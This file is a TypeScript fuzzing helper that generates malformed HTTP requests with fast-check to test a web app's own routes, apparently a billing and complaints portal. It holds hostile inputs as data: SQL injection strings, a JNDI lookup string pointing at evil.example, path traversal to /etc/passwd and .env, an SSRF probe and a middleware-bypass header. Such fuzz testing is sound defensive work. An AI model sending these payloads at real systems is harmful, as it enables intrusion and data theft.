import { randomUUID } from 'node:crypto'
import http from 'node:http'
import fc from 'fast-check'
import { HOSTILE_NAMES } from '#lib/units/test-hostile-names.ts'

/** A request as no browser would send it. */
export type OddRequest = { method: string; path: string; headers: Record<string, string>; body: Buffer }

const ODD_WORDS = [
  ...HOSTILE_NAMES.slice(0, 40).map((name) => name.slice(0, 2_000)),
  ...['', '0', '-1', '1e309', 'NaN', '2026-13-45', '0000-00', '9'.repeat(400), randomUUID(), 'null', '[]', '{}'],
  ...["' or 1=1 --", '1; select pg_sleep(9)', `\${jndi:ldap://evil.example}`, '../../etc/passwd', '\u{10ffff}'],
]
const FIELDS = [
  ...['who', 'code', 'mobile', 'consumerNo', 'connection', 'bill', 'amount', 'key', 'complaint', 'category', 'since'],
  ...[
    'detail',
    'text',
    'reply',
    'rating',
    'language',
    'to',
    'from',
    'period',
    'year',
    'lang',
    'format',
    'form',
    'next',
  ],
  ...['session', 'name', 'role', 'endsOn', 'evidence', 'draft', 'error', 'units', 'month', '__proto__', 'constructor'],
]
const PATH_TRICKS = [
  ...['/%', '/%00', '/%ff', '/c/%2e%2e%2f%2e%2e', '/..%5c..', '//evil.example/', '/\\evil', '/c//bills', '/c/x.rsc'],
  ...['/_next/image?url=http://127.0.0.1/&w=64&q=1', '/_next/static/../../.env', '/.env', '/.git/config', '/server.js'],
  ...[
    '/api/%61dmin',
    '/login?_rsc=1',
    '/login.json',
    `/${'a'.repeat(6_000)}`,
    `/?${'a=1&'.repeat(1_500)}`,
    '/api/v1/%00',
  ],
]

/** Parts of an address that no decoder takes. */
const BROKEN_PARTS = ['%', '%ff', 'x%e0%a4', '%c0%af', '%zz']

const words = fc.constantFrom(...ODD_WORDS)
const encoded = words.map((word) => encodeURIComponent(word.toWellFormed()))
const query = fc.array(fc.tuple(fc.constantFrom(...FIELDS), encoded), { maxLength: 4 })
const urlencoded = query.map((pairs) => pairs.map(([name, value]) => `${name}=${value}`).join('&'))

const oddHeaders: fc.Arbitrary<Record<string, string>> = fc
  .subarray<[string, string]>(
    [
      ...([
        ['RSC', '1'],
        ['Next-Router-State-Tree', '%5B"x"'],
        ['Next-Router-Prefetch', '1'],
        ['Next-Action', 'x'],
      ] as [string, string][]),
      ...([
        ['x-middleware-subrequest', 'proxy:proxy:proxy'],
        ['x-portal-path', '//evil.example'],
      ] as [string, string][]),
      ...([
        ['Cookie', 'session=x.y.z; language=%00; quick-pay=%7b'],
        ['Accept', 'application/json'],
      ] as [string, string][]),
      ...([
        ['X-Forwarded-For', `${'1.2.3.4,'.repeat(50)}x`],
        ['X-Forwarded-Host', 'evil.example'],
      ] as [string, string][]),
      ...([
        ['Range', 'bytes=9-1,-'],
        ['If-None-Match', '"*'],
        ['Accept-Language', 'x'.repeat(300)],
      ] as [string, string][]),
      ...([
        ['Authorization', 'Bearer x'],
        ['Content-Encoding', 'gzip'],
        ['Expect', 'nothing'],
      ] as [string, string][]),
      ...([
        ['Idempotency-Key', '\t'],
        ['Sec-Fetch-Site', 'odd'],
        ['Origin', 'null'],
        ['Accept-Encoding', '*;q=0'],
      ] as [string, string][]),
    ],
    { maxLength: 4 },
  )
  .map((pairs) => Object.fromEntries(pairs))

const oddBody: fc.Arbitrary<{ type: string; body: string | Uint8Array }> = fc.oneof(
  urlencoded.map((body) => ({ type: 'application/x-www-form-urlencoded', body })),
  fc.json({ maxDepth: 3 }).map((body) => ({ type: 'application/json', body })),
  fc.uint8Array({ maxLength: 200 }).map((body) => ({ type: 'application/x-www-form-urlencoded', body })),
  fc.uint8Array({ maxLength: 200 }).map((body) => ({ type: 'multipart/form-data; boundary=x', body })),
  words.map((word) => ({
    type: 'multipart/form-data; boundary=x',
    body: `--x\r\nContent-Disposition: form-data; name="detail"\r\n\r\n${word}\r\n--x--\r\n`,
  })),
  fc.constant({ type: 'text/plain', body: 'a'.repeat(70_000) }),
  fc.constant({ type: '', body: '' }),
)

/** Requests to the given routes (`POST /api/login`) and to places that are none, from strangers and from a login. */
export function oddRequests(routes: readonly string[], login: { cookie: string; connection: string; origin: string }) {
  const place = fc.constantFrom(...routes).chain((route) => {
    const [method = '', pattern = ''] = route.split(' ')
    const part = fc.oneof(encoded, fc.constantFrom(...BROKEN_PARTS, login.connection, randomUUID()))
    const parts = fc.array(part, { minLength: 4, maxLength: 4 })
    return parts.map((values) => ({
      method,
      path: pattern.replace(/\[[^\]]+\]/g, () => (values.shift() as string) || 'x'),
    }))
  })
  const methods = fc.constantFrom('GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS')
  const trick = fc.record({ method: methods, path: fc.constantFrom(...PATH_TRICKS) })
  const where = fc.oneof({ weight: 5, arbitrary: place }, { weight: 1, arbitrary: trick })
  return fc.tuple(where, urlencoded, oddHeaders, oddBody, fc.boolean(), fc.boolean()).map(
    ([{ method, path }, more, headers, { type, body }, isLoggedIn, isOurForm]): OddRequest => ({
      method,
      path: more && !path.includes('?') ? `${path}?${more}` : path,
      headers: {
        ...headers,
        ...(isLoggedIn && { Cookie: login.cookie }),
        ...(isOurForm && { 'Sec-Fetch-Site': 'same-origin', Origin: login.origin }),
        ...(type && { 'Content-Type': type }),
      },
      body: method === 'GET' || method === 'HEAD' ? Buffer.alloc(0) : Buffer.from(body as string),
    }),
  )
}

/** What comes back: 0 where the connection was closed without an answer. */
export function send(
  origin: string,
  { method, path, headers, body }: OddRequest,
): Promise<{ status: number; text: string }> {
  const { hostname, port } = new URL(origin)
  return new Promise((resolve) => {
    const given = { hostname, port, method, path, headers: { ...headers, 'Content-Length': String(body.length) } }
    const request = http.request(given, (answer) => {
      const chunks: Buffer[] = []
      answer.on('data', (chunk) => chunks.push(chunk))
      answer.on('end', () => {
        const text = JSON.stringify(answer.headers) + Buffer.concat(chunks).toString('latin1')
        resolve({ status: answer.statusCode ?? 0, text })
      })
      answer.on('error', () => resolve({ status: 0, text: '' }))
    })
    request.on('error', () => resolve({ status: 0, text: '' }))
    request.end(body)
  })
}
